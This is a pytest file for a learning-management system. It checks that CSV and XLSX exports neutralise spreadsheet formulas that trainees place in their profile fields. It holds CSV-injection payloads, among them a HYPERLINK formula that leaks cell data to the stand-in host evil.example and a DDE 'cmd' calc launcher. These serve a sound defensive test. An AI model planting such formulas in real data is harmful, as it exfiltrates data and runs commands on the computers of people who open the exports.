"""Issue 18, item 3: formulas a trainee plants in their own profile come out of every CSV export as
text (one writer, lms.csv_export), and out of every XLSX export as strings, never as formulas."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import openpyxl
from flask import Flask

from lms.auth.models import Role, User
from lms.courses.models import Course
from lms.csv_export import FORMULA_STARTS
from lms.enrolment import runs as enrolment_runs
from lms.enrolment import self_service as enrolment_self_service
from lms.extensions import db
from lms.orgs.models import Authority
from tests.enrolment_support import UserClient

# The payloads of the issue, one per profile field a trainee writes.
PAYLOADS = {
    "given_name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "family_name": "+SUM(1,2)",
    "patronymic": "@cmd",
    "native_name": "-2+3",
    "position": "=cmd|' /C calc'!A0",
}


def _plant(app: Flask, trainee: User) -> None:
    """Through the profile page, as an attacker would."""
    response = UserClient(app, trainee).post(
        "/account", data={**PAYLOADS, "preferred_language": "en", "timezone": "Europe/Kyiv"}
    )
    assert response.status_code == 302, response.get_data(as_text=True)
    db.session.rollback()
    db.session.expire_all()


def _csv_cells(data: bytes) -> list[str]:
    assert data.startswith(b"\xef\xbb\xbf")  # the one writer: UTF-8 with a BOM
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]


def _assert_neutralised(data: bytes, expected: set[str]) -> None:
    cells = _csv_cells(data)
    live = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert not live, live  # nothing a spreadsheet would run
    for field in expected:
        assert "'" + PAYLOADS[field] in cells, (field, cells)


def test_profile_formulas_are_neutralised_in_every_export(
    app: Flask, make_user: Callable[..., User], make_authority: Callable[..., Authority], demo_course: Course
) -> None:
    authority = make_authority("UA")
    trainee = make_user(Role.TRAINEE, authority=authority)
    admin = make_user(Role.ADMIN)
    focal = make_user(Role.FOCAL_POINT, authority=authority)
    run = enrolment_runs.ensure_default_run(demo_course)
    enrolment_self_service.self_enrol(trainee, run)
    db.session.commit()
    run_id = run.id
    _plant(app, trainee)

    every_field = set(PAYLOADS)
    as_admin, as_focal = UserClient(app, admin), UserClient(app, focal)
    for who in (as_admin, as_focal):  # the run's people, in the import columns
        response = who.get(f"/runs/{run_id}/export.csv")
        assert response.status_code == 200
        _assert_neutralised(response.get_data(), every_field)

    # Progress reports: the name column is "family, given".
    for who, url in ((as_admin, f"/reports/runs/{run_id}/export"), (as_focal, "/reports/authority/export")):
        response = who.get(url)
        assert response.status_code == 200 and response.mimetype == "text/csv"
        _assert_neutralised(response.get_data(), set())
        name = "'" + PAYLOADS["family_name"] + ", " + PAYLOADS["given_name"]
        assert name in _csv_cells(response.get_data())
        xlsx = who.get(url, query_string={"format": "xlsx"})
        assert xlsx.status_code == 200
        sheet = openpyxl.load_workbook(io.BytesIO(xlsx.get_data())).active
        assert sheet is not None
        names = [cell for row in sheet.iter_rows() for cell in row if cell.value == name[1:]]
        assert names and all(cell.data_type == "s" for cell in names)  # text, not a formula

    # The audit log (the profile change is recorded) and the indicator exports.
    for url in ("/admin/audit.csv", "/reports/indicators/export", "/reports/indicators/enrolments"):
        response = as_admin.get(url)
        assert response.status_code == 200, url
        _assert_neutralised(response.get_data(), set())


def test_the_writer_neutralises_every_payload_and_keeps_numbers() -> None:
    from lms.csv_export import csv_bytes, neutralise

    for text in (*PAYLOADS.values(), "\tTAB", "\rCR", "\uff1dSUM(A1)"):
        assert neutralise(text) == "'" + text
    assert neutralise(-3.5) == -3.5 and neutralise("Olena") == "Olena"
    assert csv_bytes(["gain"], [[-2]]).decode("utf-8-sig") == "gain\r\n-2\r\n"  # a number stays a number


def test_no_module_writes_csv_but_the_one_writer() -> None:
    """Every CSV download goes through lms.csv_export (which neutralises formulas): no other module of the
    application makes a csv writer, so an export added later cannot skip the rule."""
    import ast
    from pathlib import Path

    import lms

    root = Path(lms.__file__).parent
    writers = []
    for path in sorted(root.rglob("*.py")):
        if path == root / "csv_export.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            attribute = (
                isinstance(node, ast.Attribute)
                and node.attr in {"writer", "DictWriter"}
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            )
            imported = (
                isinstance(node, ast.ImportFrom)
                and node.module == "csv"
                and bool({alias.name for alias in node.names} & {"writer", "DictWriter"})
            )
            if attribute or imported:
                writers.append(f"{path.relative_to(root)}:{getattr(node, 'lineno', 0)}")
    assert writers == []
